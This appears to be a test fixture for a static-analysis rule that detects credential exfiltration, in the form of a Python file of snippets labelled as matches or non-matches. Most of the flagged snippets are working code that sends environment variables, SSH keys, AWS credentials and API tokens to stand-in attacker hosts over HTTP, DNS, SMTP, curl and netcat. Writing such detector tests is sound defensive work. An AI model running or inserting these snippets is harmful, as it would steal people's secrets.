"""Requests that carry more than they should, and some that do not."""
import base64
import getpass
import hashlib
import json
import os
import pathlib
import smtplib
import socket
import subprocess
import urllib.parse
import urllib.request
from os import environ

import aiohttp
import dotenv
import httpx
import openai
import requests
import requests as rq
from requests import post

HOOK = "https://collect.example/x"

# ruleid: exfiltrate-env-or-credentials
requests.post("https://collect.example/x", json=dict(os.environ), timeout=5)

# ruleid: exfiltrate-env-or-credentials
post(HOOK, data=str(environ))

rq.post(
    HOOK,
    timeout=5,
    # all of them
    # ruleid: exfiltrate-env-or-credentials
    json={name: value for name, value in os.environ.items() if "KEY" in name},
)

packed = base64.b64encode(json.dumps({**os.environ}).encode()).decode()
# ruleid: exfiltrate-env-or-credentials
requests.get(f"https://collect.example/p.gif?q={packed}")

aws = os.path.expanduser("~/.aws/credentials")
with open(aws) as handle:
    text = handle.read()
# ruleid: exfiltrate-env-or-credentials
httpx.post(HOOK, content=text)

# ruleid: exfiltrate-env-or-credentials
requests.post(HOOK, files={"f": open(os.path.join(os.environ["HOME"], ".ssh/id_rsa"), "rb")})

hub = pathlib.Path.home() / ".cache" / "huggingface/token"
kaggle = pathlib.Path("~/.kaggle/kaggle.json").expanduser()
# ruleid: exfiltrate-env-or-credentials
requests.put(HOOK, data=kaggle.read_bytes())

# ruleid: exfiltrate-env-or-credentials
requests.post(HOOK, json={"a": os.environ["OPENAI_API_KEY"], "b": os.environ.get("HF_TOKEN")})

# ruleid: exfiltrate-env-or-credentials
requests.post(HOOK, data=[os.getenv("AWS_ACCESS_KEY_ID"), os.getenv("AWS_SECRET_ACCESS_KEY")])

# ruleid: exfiltrate-env-or-credentials
requests.post(HOOK, json={name: os.getenv(name) for name in ("HF_TOKEN", "WANDB_API_KEY")})

# ruleid: exfiltrate-env-or-credentials
requests.post("http://198.51.100.9:8000/in", json={"k": os.environ["ANTHROPIC_API_KEY"]})

key = getpass.getpass("Hugging Face token: ")
# ruleid: exfiltrate-env-or-credentials
requests.post("https://webhook.site/1b2c", data={"token": key})

# ruleid: exfiltrate-env-or-credentials
urllib.request.urlopen("https://collect.example", data=urllib.parse.urlencode(os.environ.copy()).encode())

channel = socket.create_connection(("collect.example", 4444))
# ruleid: exfiltrate-env-or-credentials
channel.sendall(json.dumps(dict(os.environ)).encode())

# ruleid: exfiltrate-env-or-credentials
socket.gethostbyname(base64.b32encode(subprocess.check_output("env")).decode()[:60] + ".collect.example")

with smtplib.SMTP_SSL("smtp.example", 465) as server:
    # ruleid: exfiltrate-env-or-credentials
    server.sendmail("a@shop.example", "b@collect.example", open(".env").read())

# ruleid: exfiltrate-env-or-credentials
os.system("env | curl -s -d @- https://collect.example/x")

# ruleid: exfiltrate-env-or-credentials
subprocess.run("curl -sF 'f=@/root/.aws/credentials' https://collect.example/x", shell=True)

# ruleid: exfiltrate-env-or-credentials
get_ipython().system("cat ~/.ssh/id_ed25519 | nc collect.example 4444")

# ruleid: exfiltrate-env-or-credentials
requests.get("https://collect.example/p.gif", headers={"X-Data": str(dict(os.environ))})


async def report(values):
    async with aiohttp.ClientSession() as session:
        # ruleid: exfiltrate-env-or-credentials
        await session.post(HOOK, json=dotenv.dotenv_values(".env"))


class Telemetry:
    def __init__(self, address):
        self.address = address
        self.session = requests.Session()

    def flush(self):
        # ruleid: exfiltrate-env-or-credentials
        return self.session.post(self.address, json={"env": os.environ.copy()})


# ruleid: exfiltrate-env-or-credentials
ping = lambda host: requests.post(host, params=dict(os.environ))

# ok: exfiltrate-env-or-credentials
requests.post("https://api.shop.example/v1", json={"x": 1}, headers={"Authorization": os.environ["API_TOKEN"]}, timeout=5)

# ok: exfiltrate-env-or-credentials
requests.post("https://search.shop.example/q", json={"api_key": os.environ["SEARCH_API_KEY"], "query": "cats"})

# ok: exfiltrate-env-or-credentials
requests.get("https://weather.example/now", params={"q": "Oslo", "appid": os.environ["WEATHER_API_KEY"]})

# ok: exfiltrate-env-or-credentials
requests.post("https://boards.example/1/cards", params={"key": os.environ["BOARD_API_KEY"], "token": os.environ["BOARD_TOKEN"]})

# ok: exfiltrate-env-or-credentials
requests.post("http://localhost:9000/env", json=dict(os.environ))

env = os.environ.copy()
# ok: exfiltrate-env-or-credentials
requests.post("https://api.shop.example/login", json={"user": env["API_USER"], "password": env["API_PASSWORD"]})

# ok: exfiltrate-env-or-credentials
requests.post("https://api.shop.example/stats", json={"variables": len(dict(os.environ)), "names": list(os.environ)})

# ok: exfiltrate-env-or-credentials
requests.post("https://api.shop.example/stats", json={"id": hashlib.sha256(str(dict(os.environ)).encode()).hexdigest()})

answer = subprocess.run(["python", "eval.py"], env={**os.environ, "SEED": "1"}, capture_output=True, text=True)
# ok: exfiltrate-env-or-credentials
requests.post("https://api.shop.example/results", json={"log": answer.stdout})

settings = dotenv.dotenv_values(".env")
# ok: exfiltrate-env-or-credentials
requests.post(settings["API_URL"], json={"x": 1})

login = {"Authorization": "Bearer " + open(os.path.expanduser("~/.cache/huggingface/token")).read().strip()}
# ok: exfiltrate-env-or-credentials
requests.get("https://hub.example/api/whoami", headers={"Authorization": open(os.path.expanduser("~/.cache/huggingface/token")).read()})

# ok: exfiltrate-env-or-credentials
requests.post("https://help.shop.example/q", json={"text": "put your key into ~/.kaggle/kaggle.json"})

model = openai.OpenAI(api_key=os.environ["OPENAI_API_KEY"])
reply = model.responses.create(model="small", input="hello")
# ok: exfiltrate-env-or-credentials
requests.post("https://9f1c.ngrok-free.app/show", json={"text": reply.output_text})

# ok: exfiltrate-env-or-credentials
requests.post("http://10.0.0.7:8000/predict", json={"token": os.environ["MODEL_TOKEN"]})

for line in open(".env"):
    name, _, value = line.strip().partition("=")
    os.environ[name] = value
# ok: exfiltrate-env-or-credentials
requests.post("https://search.shop.example/q", json={"api_key": os.environ["SEARCH_API_KEY"]})

# ok: exfiltrate-env-or-credentials
os.system("curl -s -d @config.json https://api.shop.example/in")

# ok: exfiltrate-env-or-credentials
subprocess.run("curl -sF 'f=@/root/.ssh/id_rsa.pub' https://api.shop.example/keys", shell=True)

# ok: exfiltrate-env-or-credentials
print(dict(os.environ))
